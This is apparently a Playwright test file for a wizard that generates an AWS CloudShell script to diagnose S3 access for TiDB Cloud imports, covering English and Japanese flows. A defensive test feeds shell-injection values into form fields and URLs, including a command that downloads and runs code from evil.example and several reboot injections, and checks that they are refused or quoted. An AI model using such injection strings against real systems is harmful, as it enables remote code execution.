import { expect, test } from "@playwright/test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { findOrInstallAwsCli } from "../support/aws-cli";
import { runCollectionScript } from "../support/collection-script";
import { expectNoSeriousA11yViolations, watchConsole } from "./support";

// The third way in: the collection script for AWS CloudShell, shown, copied and downloaded from the production
// server, run with the AWS CLI against the fake AWS endpoint that playwright.config.ts starts (the key id selects the
// account), and its bundle given back to the wizard, in English (role) and in Japanese (access key). No credential is
// typed into the page. Without an AWS CLI that can be found or installed, the round trips are skipped with the reason
// (tests/integration/cloudshell-script.test.ts proves the script's calls equal the live collector's on any machine).
const FAKE_AWS_URL = `http://127.0.0.1:${Number(process.env.E2E_FAKE_AWS_PORT ?? 4599)}`;
const ROLE_ARN = "arn:aws:iam::111122223333:role/tidb-import";
const EXTERNAL_ID = "696e6672612d617069a79c22fa5740944bf8bb32e4a0c4e3fe";
const BUCKET_URI = "s3://tidb-cloud-source-data/mydata/";

/** The user runs the script in CloudShell: here bash and the AWS CLI against the fake endpoint, with the account's key. */
async function runInCloudShell(script: string, accessKeyId: string, secretAccessKey: string) {
  const cli = findOrInstallAwsCli();
  if (!cli.path) throw new Error(cli.reason);
  return runCollectionScript(script, { awsCli: cli.path, endpoint: FAKE_AWS_URL, accessKeyId, secretAccessKey });
}

test.describe("wizard, CloudShell script", () => {
  test.use({ permissions: ["clipboard-read", "clipboard-write"] });

  test("shows the script, copies it, downloads it; run in CloudShell, its bundle comes back a clean pass", async ({
    page,
  }) => {
    const cli = findOrInstallAwsCli();
    test.skip(!cli.path, `skipped: ${cli.reason}`);
    test.setTimeout(600_000);
    const console = watchConsole(page);
    await page.goto("/en/wizard");
    await page.getByLabel("Bucket URI").fill(BUCKET_URI);
    await page.getByLabel("Role ARN", { exact: true }).fill(ROLE_ARN);
    await page.getByLabel("TiDB Cloud External ID").fill(EXTERNAL_ID);
    await page.getByLabel("TiDB Cloud account ID").fill("380838443567");
    await page.getByLabel("CloudShell script").check();
    await expect(page.getByLabel("Secret access key")).toHaveCount(0);
    // the permissions the CloudShell session needs: the diagnosing policy, with a copy button
    await page.getByText("Permissions your CloudShell session needs").click();
    await expect(page.getByLabel("Permissions your CloudShell session needs")).toContainText("s3:GetBucketPolicy");
    await expect(page.getByRole("button", { name: "Copy policy" })).toBeVisible();
    await page.getByRole("button", { name: "Show the script for these values" }).click();
    const block = page.getByLabel("Collection script");
    await expect(block).toContainText("#!/usr/bin/env bash");
    await expect(block).toContainText(`ROLE_ARN='${ROLE_ARN}'`);
    const shown = await block.innerText();

    await page.getByRole("button", { name: "Copy script" }).click();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied.trim()).toBe(shown.trim());

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "Download s3-access-doctor-collect.sh" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("s3-access-doctor-collect.sh");
    const script = readFileSync((await download.path())!, "utf8");
    expect(script).toBe(copied);

    const run = await runInCloudShell(script, "AKIAFAKEROLEOK000001", "cloudshell-session-secret-not-for-the-page");
    try {
      expect(run.code, run.stderr).toBe(0);
      await page.getByLabel("Or choose the file:").setInputFiles(join(run.dir, "s3-access-doctor-bundle.json"));
      await expect(page.getByLabel("File the script wrote (s3-access-doctor-bundle.json)")).toHaveValue(/"format"/);
    } finally {
      run.cleanup();
    }
    await page.getByRole("button", { name: "Run the diagnosis" }).click();
    await expect(page.getByRole("heading", { level: 1, name: "Diagnosis" })).toBeVisible();
    await expect(page.locator('[data-status="fail"]')).toHaveCount(0);
    const nav = page.getByRole("navigation", { name: "Diagnosis steps" });
    for (const [step, ids] of [
      [/assume the role/, ["role.trust.external-id"]],
      [/Bucket policy/, ["bucket.requester-pays"]],
      [/Encryption and KMS keys/, ["objects.present", "objects.sse-c", "objects.encryption-keys", "kms.key-policy"]],
    ] as const) {
      await nav.getByRole("link", { name: step }).click();
      for (const id of ids) await expect(page.locator(`[data-finding="${id}"]`)).toHaveAttribute("data-status", "pass");
    }
    expect(await page.content()).not.toContain("cloudshell-session-secret-not-for-the-page");
    console.assertClean();
  });

  test("in Japanese, with an access key: the script speaks Japanese, runs in CloudShell, and its bundle comes back a clean pass", async ({
    page,
  }) => {
    const cli = findOrInstallAwsCli();
    test.skip(!cli.path, `skipped: ${cli.reason}`);
    test.setTimeout(600_000);
    const console = watchConsole(page);
    await page.goto("/ja/wizard");
    await page.getByLabel("IAM ユーザーの AWS アクセスキー").check();
    await page.getByLabel("バケット URI").fill(BUCKET_URI);
    await page.getByLabel("TiDB Cloud に指定したアクセスキー ID").fill("AKIAFAKEIMPORTKEY001");
    await page.getByLabel("CloudShell スクリプト").check();
    await page.getByRole("button", { name: "この入力内容でスクリプトを表示" }).click();
    await expect(page.getByLabel("収集スクリプト")).toContainText("読み取り専用の収集スクリプト");
    await expect(page.getByLabel("収集スクリプト")).toContainText("ACCESS_KEY_ID='AKIAFAKEIMPORTKEY001'");
    await expect(page.getByText("CloudShell セッションに必要な権限")).toBeVisible();
    await expectNoSeriousA11yViolations(page);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "s3-access-doctor-collect.sh をダウンロード" }).click(),
    ]);
    const script = readFileSync((await download.path())!, "utf8");
    expect(script).toContain("読み取り専用の収集スクリプト");

    const run = await runInCloudShell(script, "AKIAFAKEACCESSKEY001", "cloudshell-session-secret-not-for-the-page");
    try {
      expect(run.code, run.stderr).toBe(0);
      expect(run.stderr).toContain("書き出したファイル");
      await page
        .getByLabel("スクリプトが書き出したファイル（s3-access-doctor-bundle.json）")
        .fill(readFileSync(join(run.dir, "s3-access-doctor-bundle.json"), "utf8"));
    } finally {
      run.cleanup();
    }
    await page.getByRole("button", { name: "診断を実行" }).click();
    await expect(page.getByRole("heading", { level: 1, name: "診断結果" })).toBeVisible();
    await expect(page.locator('[data-status="fail"]')).toHaveCount(0);
    // read from the bundle as a live run reads the account: the objects and the key's owner too
    const nav = page.getByRole("navigation", { name: "診断ステップ" });
    await nav.getByRole("link", { name: /デフォルトの暗号化/ }).click();
    for (const id of ["objects.present", "objects.sse-c", "kms.aws-managed-key"])
      await expect(page.locator(`[data-finding="${id}"]`)).toHaveAttribute("data-status", "pass");
    expect(await page.content()).not.toContain("cloudshell-session-secret-not-for-the-page");
    console.assertClean();
  });

  test("a hostile value is refused at its field, and a crafted link gets no script", async ({ page, request }) => {
    // a crafted link to the wizard fills in nothing: the form starts empty whatever the address holds
    await page.goto(`/en/wizard?bucketUri=${encodeURIComponent("s3://b/$(reboot)/")}&roleArn=x%27%3Breboot#step-trust`);
    await expect(page.getByLabel("Bucket URI")).toHaveValue("");
    await expect(page.getByLabel("Role ARN", { exact: true })).toHaveValue("");
    await page.goto("/en/wizard");
    await page.getByLabel("Bucket URI").fill(BUCKET_URI);
    await page.getByLabel("Role ARN", { exact: true }).fill(`${ROLE_ARN}$(curl evil.example|sh)`);
    await page.getByLabel("CloudShell script").check();
    await page.getByRole("button", { name: "Show the script for these values" }).click();
    await expect(page.getByRole("alert").filter({ hasText: "The role ARN must look like" })).toBeVisible();
    await expect(page.getByLabel("Collection script")).toHaveCount(0);

    const crafted = await request.get(
      `/en/wizard/collect-script?mode=role&bucketUri=${encodeURIComponent(BUCKET_URI)}&roleArn=${encodeURIComponent(`${ROLE_ARN}';reboot;'`)}`,
    );
    expect(crafted.status()).toBe(400);
    expect((await crafted.json()).error.field).toBe("roleArn");

    // a folder may hold any character: it goes in single-quoted, as data
    const quoted = await request.get(
      `/en/wizard/collect-script?mode=role&bucketUri=${encodeURIComponent("s3://tidb-cloud-source-data/it's $(x)/")}&roleArn=${encodeURIComponent(ROLE_ARN)}`,
    );
    expect(quoted.status()).toBe(200);
    expect(quoted.headers()["content-type"]).toBe("text/x-shellscript; charset=utf-8");
    expect(quoted.headers()["content-disposition"]).toContain("attachment");
    expect(await quoted.text()).toContain(`FOLDER='it'\\''s $(x)/'`);
  });
});
